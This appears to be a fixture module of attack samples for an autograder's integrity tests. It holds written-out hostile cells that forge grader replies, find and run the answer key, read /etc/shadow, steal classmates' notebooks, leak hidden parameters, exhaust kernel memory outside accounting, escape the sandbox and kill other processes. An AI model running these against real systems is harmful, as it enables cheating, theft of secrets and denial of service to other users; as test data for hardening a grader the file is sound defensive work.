"""Hostile cells for the integrity tests, each written as a student would write the attack.

Every source here replaces one graded cell of the solution notebook. They are data, never run by
the test process itself.
"""
from __future__ import annotations


def named(template: str, name: str) -> str:
    """An attack on one model class: the template with the class's name filled in."""
    return template.replace("CLASSNAME", name)

# Find the probe's request (nonce, parameters) and the job's socket from inside a method the probe
# calls, then answer in the grader's own wire format with values that cost nothing to make.
FIND_REQUEST = '''
import sys, os, json, struct, base64

def _request():
    f = sys._getframe()
    while f is not None:
        r = f.f_locals.get("request")
        if isinstance(r, dict) and "nonce" in r:
            return r, f.f_locals["sock"]
        f = f.f_back
    raise RuntimeError("no request found")

def _tensor(shape, value=0.0):
    n = 1
    for s in shape:
        n *= s
    return {"__tensor__": "float64", "shape": list(shape),
            "data": base64.b64encode(struct.pack(f"<{n}d", *([value] * n))).decode()}

def _read(sock):
    head = b""
    while len(head) < 8:
        head += sock.recv(8 - len(head))
    size, body = struct.unpack("!Q", head)[0], b""
    while len(body) < size:
        body += sock.recv(size - len(body))
    return json.loads(body)

def _answer(request, sock, make):
    """Take the protocol over: answer this request and every later one with forged data."""
    while request.get("params"):
        body = json.dumps({"type": "result", "nonce": request["nonce"], "data": make(request)}).encode()
        os.write(sock.fileno(), struct.pack("!Q", len(body)) + body)
        request = _read(sock)
    os._exit(0)
'''

FORGED_MODEL = FIND_REQUEST + '''
class CLASSNAME:
    def __init__(self, d_in, d_out):
        request, sock = _request()

        def make(req):
            runs = {}
            for label, p in req["params"]["runs"].items():
                k = p["sample_k"]
                runs[label] = {"module": True, "linear": [[a, b, True] for a, b in p["linear"]],
                               "init": [[_tensor([k], 0.01), _tensor([k], 0.01)] for _ in p["linear"]],
                               "out_type": "Tensor", "copied": "shape",
                               "outputs": {str(s): _tensor([p["batch"], d_out], 0.1) for s in p["seeds"]},
                               "with_weights": _tensor([p["batch"], d_out], 0.1)}
            return {"defined": True, "runs": runs}

        _answer(request, sock, make)
'''

FORGED_TRAINING = FIND_REQUEST + '''
def _forged_runs(request):
    runs = {}
    for label, p in request["params"]["runs"].items():
        batches = -(-p["n_train"] // p["batch_size"])
        series = [[0.01 * (i + 1)] * batches for i in range(3)]
        events = [{"kind": "optimizer", "type": "SGD", "params": "model",
                   "defaults": {"lr": p["lr"], "momentum": p["momentum"], "dampening": 0.0,
                                "weight_decay": 0.0, "nesterov": False}}]
        for e in range(p["epochs"]):
            events.append({"kind": "train", "model": "model", "loader": "train", "optimizer": 0,
                           "epoch": e, "series": series})
            events.append({"kind": "test", "model": "model", "loader": "test",
                           "printed": "Test set: Average loss: 2.3026, Accuracy: 4/32 (12.50%)"})
        dims = p["layers"]
        final = {}
        for i in range(len(dims) - 1):
            final[f"{2 * i + 1}.weight"] = _tensor([dims[i + 1], dims[i]], 0.0)
            final[f"{2 * i + 1}.bias"] = _tensor([dims[i + 1]], 0.0)
        runs[label] = {"events": events, "lines": series * p["epochs"], "final": final}
    return {"defined": True, "runs": runs}

def train_and_test(model, hyperparameters):
    request, sock = _request()
    _answer(request, sock, _forged_runs)
'''

# The same claims made for a copy of the model trained on a loader of its own, which the replay
# repeats on a copy of the grader's model and a loader over the same data with that batch size.
FORGED_COPY_TRAINING = FORGED_TRAINING.replace(': "model"', ': "copy:0"').replace('"loader": "train"',
                                                                                '"loader": "train:1"')

# The same claims made for a new model of the passed model's class (type(model)(...)), whose
# weights when first seen the reply gives (all zeros, so no training is needed to know them): the
# replay trains such a model from them, and the cheap series are not what it gives.
FORGED_NEW_TRAINING = FORGED_TRAINING.replace(': "model"', ': "new:0"').replace(
    'runs[label] = {"events": events, "lines": series * p["epochs"], "final": final}',
    'new = {}\n'
    '        for i in range(len(dims) - 1):\n'
    '            new[f"linear{i + 1}.weight"] = _tensor([dims[i + 1], dims[i]], 0.0)\n'
    '            new[f"linear{i + 1}.bias"] = _tensor([dims[i + 1]], 0.0)\n'
    '        runs[label] = {"events": events, "lines": series * p["epochs"], "final": final, "new": [new]}')
assert '"new": [new]' in FORGED_NEW_TRAINING

# The attack as first reproduced: look for the grader's probe and helper functions in the process.
PROBES_IN_PROCESS = '''
import importlib
found = []
for name in ("grader.probes", "grader.checks", "grader.checks.models", "grader.pipeline", "grader.runner"):
    try:
        importlib.import_module(name)
        found.append(name)
    except Exception:
        pass
if found:
    raise RuntimeError("grader modules importable: " + ",".join(found))

class CLASSNAME:
    pass
'''

# Read the reference solution (or the answer key) wherever the checkout is, and run it.
READ_REFERENCE = '''
import os
hits = []
for top in ("/", "/work", "/root", "/home", "/srv", "/opt", "/tmp", "/job"):
    for dirpath, dirs, files in os.walk(top):
        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr")):
            dirs[:] = []
            continue
        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", "lib-dynload")]
        for f in files:
            if f in ("reference.py", "answer_key.toml", "hidden.toml") or dirpath.endswith(".git/objects"):
                hits.append(os.path.join(dirpath, f))
ref = [h for h in hits if h.endswith("reference.py")]
if ref:
    exec(open(ref[0]).read())
else:
    raise FileNotFoundError("found: " + ";".join(hits[:20]))
'''

# Read the parameters the probe was given from its frames and publish them through an error of
# the run in progress (the public run's messages are shown): the hidden run's parameters must not
# be in the process yet.
FRAMES = '''
import sys, json

def _leak():
    f, seen = sys._getframe(), []
    while f is not None:
        for name in ("params", "request", "p"):
            v = f.f_locals.get(name)
            if isinstance(v, dict):
                seen.append(json.dumps(v, default=str)[:2000])
        f = f.f_back
    raise RuntimeError("LEAK " + " || ".join(seen))

class CLASSNAME(nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        self.l = nn.Linear(d_in, d_out)

    def forward(self, x):
        _leak()
'''
FRAMES_TRAINING = FRAMES.split("class CLASSNAME")[0] + '''
def train_and_test(model, hyperparameters):
    _leak()
'''

# Keep something for the next job (the next student) in every place that might outlive a job.
STASH = '''
import ctypes, os, socket, subprocess
libc = ctypes.CDLL(None, use_errno=True)
kept = []
key = libc.syscall({add_key}, b"user", b"stash", b"SECRET-FROM-A", 13, ctypes.c_int(-4))
kept.append(("keyring", key, ctypes.get_errno()))
for path in ("/job/stash", "/tmp/stash", "/dev/shm/stash"):
    try:
        open(path, "w").write("SECRET-FROM-A")
        kept.append(path)
    except OSError:
        pass
if os.fork() == 0:                      # a process that listens for the next job
    try:
        os.setsid()                     # refused now (a new session is a new autogroup)
    except OSError:
        pass
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind("\\0stash")
    s.listen(1)
    while True:
        c, _ = s.accept()
        c.sendall(b"SECRET-FROM-A")
print(kept)
'''
FIND_STASH = '''
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
found = []
buf = ctypes.create_string_buffer(64)
key = libc.syscall({request_key}, b"user", b"stash", None, ctypes.c_int(-4))
if key >= 0 and libc.syscall({keyctl}, 11, key, buf, 64) > 0:
    found.append("keyring")
for path in ("/job/stash", "/tmp/stash", "/dev/shm/stash"):
    if os.path.exists(path):
        found.append(path)
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\\0stash")
    found.append("socket")
except OSError:
    pass
assert not found, found
'''

# Publish secrets through the student's own feedback: error text of a failing cell.
EXFILTRATE = '''
import os, glob
loot = []
for path in ["/etc/shadow", {key!r}, {hidden!r}, {old_report!r}]:
    try:
        loot.append(open(path).read())
    except Exception as exc:
        loot.append(type(exc).__name__)
for d in ("/root", "/home", "/work"):
    try:
        loot.append(" ".join(os.listdir(d)))
    except Exception as exc:
        loot.append(type(exc).__name__)
raise ValueError(" | ".join(loot))
'''

# Values derived from hidden parameters, sent back through error messages of the probe's calls.
HIDDEN_VALUES_MODEL = '''
class CLASSNAME(nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        self.l = nn.Linear(d_in, d_out)

    def forward(self, x):
        raise ValueError(f"LEAK batch={x.shape[0]} seed={torch.initial_seed()} first={float(x.flatten()[0]):.6f}")
'''
HIDDEN_VALUES_TRAINING = '''
def train_and_test(model, hyperparameters):
    for epoch in range(hyperparameters["epochs"]):
        train(model, train_loader, optim.SGD(model.parameters(), lr=0.5), epoch)
    raise ValueError("LEAK " + " ".join(f"{k}={v}" for k, v in hyperparameters.items()))
'''

# A fifty-third review: behave by the hidden values so that the points tell them (the seed above
# 10^7 costs seeded; lr above 0.03 costs test), a bit per check. Points cannot be made silent; the
# source is flagged for a TA.
POINTS_AS_CHANNEL_MODEL = """
import torch.nn as nn
class ANN_sigmoid(nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        self.big = float(torch.initial_seed() > 10**7)
        self.l1, self.l2 = nn.Linear(d_in, 512), nn.Linear(512, 1024)
        self.l3, self.l4 = nn.Linear(1024, 512), nn.Linear(512, d_out)

    def forward(self, x):
        x = torch.sigmoid(self.l1(x.flatten(1)))
        return self.l4(torch.sigmoid(self.l3(torch.sigmoid(self.l2(x))))) + self.big
"""

# In the run with hidden parameters, answer the grader's request with a "refused" reply whose
# reason is those parameters, or end the process with an exit code made of one (8 bits a cell):
# a student's own words or numbers from that run must never reach a message.
HIDDEN_RUN = FIND_REQUEST + '''
def _in_hidden_run():
    request, sock = _request()
    runs = request["params"].get("runs", {})
    return None if "public" in runs else (request, sock, runs)

def _leak(how):
    found = _in_hidden_run()
    if found is None:
        return
    request, sock, runs = found
    if how == "refused":
        body = json.dumps({"type": "result", "nonce": request["nonce"], "refused": "LEAK " + json.dumps(runs)}).encode()
        os.write(sock.fileno(), struct.pack("!Q", len(body)) + body)
        os._exit(0)
    values = [v for run in runs.values() for v in run.values() if isinstance(v, (int, float))]
    os._exit(int(abs(values[0]) * (1000 if isinstance(values[0], float) else 1)) % 250 + 3)
'''
HIDDEN_RUN_MODEL = HIDDEN_RUN + '''
class CLASSNAME(nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        _leak("HOW")
        self.l = nn.Linear(d_in, d_out)

    def forward(self, x):
        return self.l(x.flatten(1))
'''
HIDDEN_RUN_TRAINING = HIDDEN_RUN + '''
def train_and_test(model, hyperparameters):
    _leak("HOW")
'''

# Memory held by a grandchild whose parent has exited: it is re-parented out of the job's own
# process tree, where a count over the job's descendants would miss it (red-team finding, no cgroup).
ORPHAN_MEMORY = '''
import os, time
import numpy as np
_r, _w = os.pipe()
if os.fork() == 0:
    if os.fork() == 0:
        _hoard = np.ones({mb} * 2**20 // 8)
        os.write(_w, b"x")
        time.sleep(30)
    os._exit(0)
os.wait()
os.read(_r, 1)
time.sleep(3)
'''

# Shared memory that two processes of the job map together, grown a slice at a time so that no
# process ever maps much of it alone: no page of it is any process's private memory (a
# hundred-and-first review's path, without a memory cgroup).
SHARED_BY_TWO = '''
import mmap, os, time
_size, _step = ({mb} // 64 + 1) * 64 * 2**20, 64 * 2**20
_m = mmap.mmap(-1, _size, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
_a, _b = os.pipe(), os.pipe()
if os.fork() == 0:
    for _o in range(0, _size, _step):
        _m[_o:_o + _step] = bytes([1]) * _step
        os.write(_a[1], b"x")
        os.read(_b[0], 1)
    time.sleep(30)
    os._exit(0)
for _o in range(0, _size, _step):
    os.read(_a[0], 1)
    sum(_m[_i] for _i in range(_o, _o + _step, 4096))
    os.write(_b[1], b"x")
time.sleep(3)
'''

# Unix stream sockets whose data waits at a receiver: the sender is closed, the receiver kept, and
# the queued data belongs to no process (a hundred-and-fourth review held 8 GB so with datagrams,
# without a memory cgroup; datagrams are refused now, stream sockets are charged).
SOCKET_QUEUES = '''
import os, socket, time
def _fill(n):
    held = []
    for _ in range(n):
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        a.setblocking(False)
        try:
            while True:
                a.send(b"x" * 65536)
        except BlockingIOError:
            pass
        a.close()
        held.append(b)
    return held
for _k in range({procs} - 1):
    if os.fork() == 0:
        _held = _fill({pairs})
        time.sleep(30)
        os._exit(0)
_held = _fill({pairs})
time.sleep(5)
'''

# The machine's table of open files, filled through mappings that keep a file open after close()
# (a hundred-and-fourth review: classmates' jobs failed to start, or the unprivileged grader could
# not write a report and stopped; and a hidden seed was relayed by taking and giving back room in
# the table, read by a classmate's job as open() failing).
FILE_TABLE = '''
import ctypes, os, time
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype, _libc.mmap.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int,
                                                            ctypes.c_int, ctypes.c_int, ctypes.c_long]
def _hold(n):
    for _ in range(n):                  # libc's mmap: Python's would keep a descriptor of its own
        fd = os.open(os.__file__, os.O_RDONLY)
        _libc.mmap(None, 4096, 1, 1, fd, 0)       # PROT_READ, MAP_SHARED
        os.close(fd)
for _k in range({procs} - 1):
    if os.fork() == 0:
        _hold({each})
        time.sleep(30)
        os._exit(0)
_hold({each})
time.sleep(5)
'''

# Page tables of a huge mapping that is only read: each read maps the kernel's zero page (no
# memory of the job's own), and every 2 MB of it costs a page of page tables (a hundred-and-third
# review held 3.5 GB this way, resident memory 0).
PAGE_TABLES = '''
import mmap, time
_step, _n = 2 << 20, {mb} * 2**20 // 4096
_pt = mmap.mmap(-1, _step * _n, flags=mmap.MAP_PRIVATE | 0x4000, prot=mmap.PROT_READ)
_pt.madvise(mmap.MADV_NOHUGEPAGE)
for _i in range(_n):
    _pt[_i * _step]
time.sleep(3)
'''

# Memory mappings that hold nothing: one untouched range split by mprotect into {each} mappings in
# each of {procs} processes. The kernel's record of each mapping is memory no process is charged
# for (a hundred-and-seventh review held 0.7 GB so without a memory cgroup, nothing resident).
MAPPINGS = '''
import ctypes, os, time
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype, _libc.mmap.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int,
                                                            ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
def _split(n):
    base = _libc.mmap(None, 2 * n * 4096, 3, 0x22, -1, 0)       # PROT_READ|WRITE, MAP_PRIVATE|ANONYMOUS
    for i in range(n):
        _libc.mprotect(base + 2 * i * 4096, 4096, 1)           # every other page read-only: a mapping each
for _k in range({procs} - 1):
    if os.fork() == 0:
        _split({each})
        time.sleep(30)
        os._exit(0)
_split({each})
time.sleep(5)
'''

# Epoll watches on a pipe whose last descriptor is held by a child that took it over a socket:
# each watch is a record in the kernel's memory that no process is charged for (a
# hundred-and-thirteenth review held 1 GB so beside 2 GB counted, without a memory cgroup).
EPOLL_WATCHES = '''
import os, select, socket, time
def _watch(target):
    eps, done = [select.epoll() for _ in range(50)], 0
    a, b = socket.socketpair()
    if os.fork() == 0:
        a.close()
        _keep = []
        while True:
            msg, fds, _f, _a = socket.recv_fds(b, 16, 8)
            if not msg:
                os._exit(0)
            _keep.extend(fds)
    b.close()
    while done < target:
        r, w = os.pipe()
        os.close(w)
        dups = [r] + [os.dup(r) for _ in range(49)]
        for ep in eps:
            for fd in dups:
                ep.register(fd, select.EPOLLIN)
        done += len(eps) * len(dups)
        socket.send_fds(a, [b"x"], [r])
        for fd in dups:
            os.close(fd)
    time.sleep(2)
    return done
_watched = _watch({watches})
'''

# POSIX ACLs on folders of the job's tmpfs: the kernel keeps them in its own memory, not in the
# folder's blocks, and accepts one of some 64 KB (the job's uid repeated); a hundred-and-fourteenth
# review held 2.5 GB so beside 2.6 GB counted, without a memory cgroup, and kept 50/50.
ACLS = '''
import os, struct
_entries = ([struct.pack("<HHI", 1, 7, 0xFFFFFFFF)] + [struct.pack("<HHI", 2, 7, os.getuid())] * {users}
            + [struct.pack("<HHI", tag, 7, 0xFFFFFFFF) for tag in (4, 16, 32)])
_acl = struct.pack("<I", 2) + b"".join(_entries)
for _i in range({folders}):
    os.makedirs(f"/tmp/acl/{{_i}}")
    os.setxattr(f"/tmp/acl/{{_i}}", "system.posix_acl_access", _acl)
    os.setxattr(f"/tmp/acl/{{_i}}", "system.posix_acl_default", _acl)
'''

# What a cell wrote into its job folder stays there while its job waits, stopped, for the run
# with hidden parameters: each graded cell's folder holds {mb} MB, under the folder's cap.
FOLDER_KEPT = '''
for _i in range({mb} // 60):              # files under the per-file cap
    with open(f"/tmp/kept{{_i}}.bin", "wb") as _fh:
        _fh.write(b"k" * (60 * 2**20))
'''

# Memory made, then forked: parent and child then map it both, and it is neither's private pages
# (a hundred-and-seventeenth review held 9 GB so against a 3 GB cap, without a cgroup).
COW_FORKS = '''
import os, time
_kids, _held = [], []
for _i in range({chunks}):
    _held.append(torch.ones({mb} * 2**20, dtype=torch.uint8))
    _pid = os.fork()
    if _pid == 0:
        time.sleep(6)
        os._exit(0)
    _kids.append(_pid)
time.sleep(2)
for _pid in _kids:
    os.kill(_pid, 9)
    os.waitpid(_pid, 0)
del _held
'''

# Shared anonymous memory written and then unmapped page by page (MADV_DONTNEED): the pages stay in
# the kernel's hidden file behind the mapping, and no process shows them (a hundred-and-eighteenth
# review held 8 GB so against a 3 GB cap, without a cgroup).
SHARED_UNMAPPED = '''
import mmap as _mm, time as _t
_hold = _mm.mmap(-1, {mb} << 20, flags=_mm.MAP_SHARED | _mm.MAP_ANONYMOUS)
for _i in range(0, {mb} << 20, 1 << 24):
    _hold[_i:_i + (1 << 24)] = b"\\x01" * (1 << 24)
    _hold.madvise(_mm.MADV_DONTNEED, _i, 1 << 24)
_t.sleep(2)
'''

# In the run with hidden parameters, wrap the job's own send so that its reply also carries a
# "public" run whose error text is made of the hidden parameters (second review): the public
# run's words are shown to the student, so a reply may describe only the run it was asked for.
CROSS_RUN = '''
import sys as _s, json as _j
_J, _W = _s.modules["grader.child.job"], _s.modules["grader.child.wire"]
_orig_phase, _orig_send = _J._probe_phase, _W.send
def _phase(sock, ns, request, env, ob):
    runs = (request.get("params") or {}).get("runs") or {}
    def send(s, reply):
        if "hidden" in runs and isinstance(reply.get("data"), dict):
            text = "LEAK " + _j.dumps(runs["hidden"])
            reply["data"].setdefault("runs", {})["public"] = {"FIELD": text}
        return _orig_send(s, reply)
    _W.send = send
    try:
        return _orig_phase(sock, ns, request, env, ob)
    finally:
        _W.send = _orig_send
_J._probe_phase = _phase
'''

# One malformed frame on the job's socket, then business as usual.
MALFORMED_FRAME = '''
import os, socket, stat
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, b"\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x05{bad")
    except OSError:
        pass
'''
OUT_OF_ORDER = '''
import os, json, struct, stat
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            body = json.dumps({"type": "result", "nonce": "0", "data": {"defined": True}}).encode()
            os.write(fd, struct.pack("!Q", len(body)) + body)
    except OSError:
        pass
'''
HUGE_REPLY = FIND_REQUEST + '''
class CLASSNAME:
    def __init__(self, d_in, d_out):
        request, sock = _request()
        body = b"[" + b"0," * (32 * 2**20) + b"0]"
        os.write(sock.fileno(), struct.pack("!Q", len(body)))
        sock.sendall(body)
        os._exit(0)
'''
DEEP_REPLY = FIND_REQUEST + '''
class CLASSNAME:
    def __init__(self, d_in, d_out):
        request, sock = _request()
        body = b"[" * 100000 + b"]" * 100000
        os.write(sock.fileno(), struct.pack("!Q", len(body)) + body)
        os._exit(0)
'''
# An eleventh review: 8 MB of nested empty lists, each costing the grader ~40 times its bytes once
# parsed (the grader went from 121 MB to 391 MB).
BLOAT_REPLY = FIND_REQUEST + '''
class CLASSNAME:
    def __init__(self, d_in, d_out):
        request, sock = _request()
        unit = b"[[[[]]]],"
        body = b'{"type":"result","nonce":"x","data":[' + unit * ((8 * 2**20 - 64) // len(unit) - 1) + b"[[[[]]]]]}"
        os.write(sock.fileno(), struct.pack("!Q", len(body)))
        sock.sendall(body)
        os._exit(0)
'''

# Resources that a per-process memory count misses.
MEMFD = '''
import os
chunk = b"x" * (32 * 2**20)
hoard = []
for _ in range({chunks}):          # many files, each under the per-file size limit
    fd = os.memfd_create("hoard")
    os.write(fd, chunk)
    hoard.append(fd)
'''
DISK = '''
chunk = b"x" * (64 * 2**20)
for i in range(40):
    with open(f"blob{i}.bin", "wb") as fh:
        fh.write(chunk)
'''

# Something of the cell keeps running beside the probe, to change what it observes.
THREAD_LEFT = '''
import threading, time
def meddle():
    while True:
        time.sleep(0.001)
threading.Thread(target=meddle, daemon=True).start()
'''
TRACE_LEFT = '''
import sys
def tracer(frame, event, arg):
    return tracer
sys.settrace(tracer)
'''

# Classmates' work through the Moodle zip, wherever it is.
READ_ZIP = '''
import os, zipfile
loot = []
for top in ("/", "/tmp", "/root", "/work", "/home", "/job"):
    for dirpath, dirs, files in os.walk(top):
        if dirpath.startswith(("/proc", "/sys", "/usr")):
            dirs[:] = []
            continue
        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", "lib-dynload")]
        for f in files:
            p = os.path.join(dirpath, f)
            if f.endswith(".zip"):
                with zipfile.ZipFile(p) as z:
                    loot += [z.read(n).decode(errors="ignore")[-3000:] for n in z.namelist() if n.endswith(".ipynb")]
            elif f.endswith(".ipynb"):
                loot.append(open(p, errors="ignore").read()[-3000:])
raise ValueError("LOOT " + " ".join(loot)[:5000])
'''

# Ways out of the sandbox: the worker, the machine, the network, the next job.
ESCAPES = {
    "kill-worker": "import os, signal\nos.kill(1, signal.SIGKILL)\nos.kill(os.getppid(), signal.SIGKILL)",
    "worker-memory": "print(open('/proc/1/environ').read())\nprint(open('/proc/1/maps').read())",
    "ptrace": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
              "assert libc.ptrace(16, 1, 0, 0) == 0, ctypes.get_errno()",
    "become-root": "import os\nos.setuid(0)\n"
                   "caps = open('/proc/self/status').read().split('CapEff:')[1].split()[0]\n"
                   "assert int(caps, 16) != 0, 'uid 0 perhaps, but without any capability'",
    "new-user-namespace": "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                          "assert libc.unshare(0x10000000 | 0x00020000) == 0, ctypes.get_errno()\n"
                          "assert libc.mount(b'none', b'/', None, 32 | 4096, None) == 0, ctypes.get_errno()",
    "write-data": "import os\nopen(os.path.join({data!r}, 'poison'), 'w').write('x')",
    "network": "import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=3)",
    "linger": "import os, time\nif os.fork() == 0:\n    try:\n        os.setsid()\n    except OSError:\n        pass\n"
              "    time.sleep(60)\n    os._exit(0)",
    "signal-worker": "import os, signal\nfor sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, "
                     "signal.SIGQUIT, signal.SIGALRM):\n    try:\n        os.kill(1, sig)\n    except OSError:\n"
                     "        pass\nimport time\ntime.sleep(0.3)",
    "keyring": "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
               "r = libc.syscall(248 if __import__('platform').machine() == 'x86_64' else 217, b'user', b'k', b'v', 1, "
               "ctypes.c_int(-4))\nassert r >= 0, ctypes.get_errno()",
}

# Twentieth review: weights reported as tensors with an empty dimension: no data, but millions of
# rows wherever they are read as lists (a trusted replay's parameters were, in the grader).
EMPTY_ROWS_FINAL = '''
class _Weights:
    def __init__(self, a): self.a = a
    def detach(self): return self
    def float(self): return self
    def clone(self): return self.a

def train_and_test(model, hyperparameters):
    test(model, train_loader)                    # an event the reference does not confirm: a replay
    empty = torch.zeros((4_000_000, 0))
    model.state_dict = lambda *a, **k: {f"w{i}": _Weights(empty) for i in range(3)}
'''


# Sixty-eighth review: a loop of one's own that walks up to the probe's frame and forges its record
# of calls of `train` (and hides its steps from the step hook). The record lives in the student's
# process, so this is not closed; the cell is flagged `introspection` for a TA.
FRAME_FORGED_TRAINING = '''import sys
def train_and_test(model: nn.Module, hyperparameters: dict):
    optimizer = optim.SGD(model.parameters(), lr=hyperparameters["lr"], momentum=hyperparameters["momentum"])
    caller = sys._getframe(1).f_locals          # whoever called me
    log = caller.get("events")
    G = []
    busy = caller.get("inside")
    if isinstance(busy, list):
        busy.append(True)     # the recorder then takes my steps for steps inside `train`
    for epoch in range(hyperparameters["epochs"]):
        model.train()
        g = [[], [], []]
        for data, target in train_loader:       # a loop of my own: `train` is never called
            optimizer.zero_grad()
            loss = F.cross_entropy(model(data), target)
            loss.backward()
            lin = [m for m in model.modules() if isinstance(m, nn.Linear)]
            for k in range(3):
                g[k].append(torch.mean(abs(lin[k].weight.grad)).item())
            optimizer.step()
        G.append(g)
        if isinstance(log, list):
            log.append({"kind": "train", "model": "model", "loader": "train",
                        "optimizer": [id(o) for o in caller["optimizers"]].index(id(optimizer)),
                        "epoch": epoch, "series": g,
                        "groups": [{"lr": float(q["lr"]), "momentum": float(q["momentum"]),
                                    "dampening": float(q["dampening"]), "weight_decay": float(q["weight_decay"])}
                                   for q in optimizer.param_groups]})
    if isinstance(busy, list):
        busy.pop()
    test(model, test_loader)
    fig, ax = plt.subplots()
    for k in range(3):
        ax.plot([v for g in G for v in g[k]])
    plt.show()
'''

# A hundred-and-thirty-third review: jobs of one worker shared a network namespace, so a job
# reached a parked job's abstract Unix socket and sent it a descriptor of a file of its own folder
# (its tmpfs): the folder then outlived the job, counted nowhere (2.4 GB at 50/50). The ReLU cell
# listens (its job parked with the listener until its hidden run); the sigmoid cell's hidden run,
# after that, tries to reach it and says so in an error if it could.
SOCKET_LISTEN = """
import socket as _socket
_listener = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
_listener.bind("\\0grader-review-133")
_listener.listen(8)
"""
SOCKET_MEET = """
import socket as _socket
def _meet():
    _s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    try:
        _s.connect("\\0grader-review-133")
    except OSError:
        return
    finally:
        _s.close()
    raise ValueError("met-another-jobs-socket")
"""


# The job's own reply, rewritten on its way out: in the run with the grader's values, a valid reply
# that leaves out the run it was asked for (a hundred-and-eighty-second review).
WITHOUT_THE_HIDDEN_RUN = '''
import sys as _sys
_wire = _sys.modules.get("grader.child.wire")
if _wire is not None:
    _send0 = _wire.send
    def _send(sock, obj, _send0=_send0):
        d = obj.get("data") if isinstance(obj, dict) else None
        if isinstance(d, dict) and "hidden" in (d.get("runs") or {}):
            d["runs"] = {}
        return _send0(sock, obj)
    _wire.send = _send
'''
# A two-hundred-and-twelfth review: a number beyond a float's range in a reply (10**400) raised
# OverflowError in the grader's reading of it, which no rule caught: "grader error", and the worker
# went back to the pool with the job still running, which then killed the next classmate's jobs.
OVERFLOW_THEN_KILL = '''
import sys as _s
_w = _s.modules['grader.child.wire']
def _send(sock, obj, _o=_w.send):
    if isinstance(obj, dict) and obj.get('type') == 'result' and isinstance(obj.get('data'), dict):
        for _r in (obj['data'].get('runs') or {}).values():
            if isinstance(_r, dict):
                _r['lines'] = [[10**400]]
        out = _o(sock, obj)
        import os, time, signal
        me, t_end = os.getpid(), time.monotonic() + 20
        while time.monotonic() < t_end:
            for pid in range(2, 4096):
                if pid != me:
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.05)
        return out
    return _o(sock, obj)
_w.send = _send
'''
